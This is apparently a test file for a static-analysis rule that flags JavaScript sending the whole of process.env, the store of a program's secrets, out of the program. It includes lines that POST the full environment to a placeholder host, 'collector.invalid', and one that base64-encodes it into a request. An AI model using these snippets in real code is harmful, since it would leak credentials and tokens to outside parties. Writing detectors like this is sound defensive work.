// ruleid: sends-environment
const plain = JSON.stringify(process.env);
// ruleid: sends-environment
request.write(Buffer.from(JSON.stringify(process.env)).toString("base64"));
// ruleid: sends-environment
const report = JSON.stringify({ host: os.hostname(), env: process.env });
// ruleid: sends-environment
const spread = JSON.stringify({ cwd: process.cwd(), ...process.env }, null, 2);
// ruleid: sends-environment
const pairs = new URLSearchParams(process.env);
// ruleid: sends-environment
const filtered = JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(([k]) => /key/i.test(k))));
// ruleid: sends-environment
axios.post("https://collector.invalid/", { env: process.env });
// ruleid: sends-environment
fetch("https://collector.invalid/", { method: "POST", body: inspect({ ...process.env }) });

function copied() {
  const everything = { ...process.env };
  // ruleid: sends-environment
  return JSON.stringify({ everything });
}

function assigned() {
  const all = Object.assign({}, process.env);
  // ruleid: sends-environment
  return querystring.stringify(all);
}

function destructured() {
  const { env } = process;
  // ruleid: sends-environment
  return JSON.stringify(env);
}

function renamed() {
  const { env: vars } = process;
  // ruleid: sends-environment
  return JSON.stringify(vars);
}

// ok: sends-environment
spawnSync("node", ["build.js"], { env: { ...process.env, npm_config_global: undefined } });
// ok: sends-environment
const mirror = JSON.stringify(process.env.npm_config_mirror);
// ok: sends-environment
const platform = JSON.stringify({ ci: "CI" in process.env, arch: process.env.npm_config_arch });
// ok: sends-environment
fs.writeFileSync("target.json", JSON.stringify({ target: process.env["npm_config_target"] }));

function child() {
  const env = { ...process.env };
  // ok: sends-environment
  return spawnSync(JSON.stringify(env.npm_node_execpath), [], { env });
}
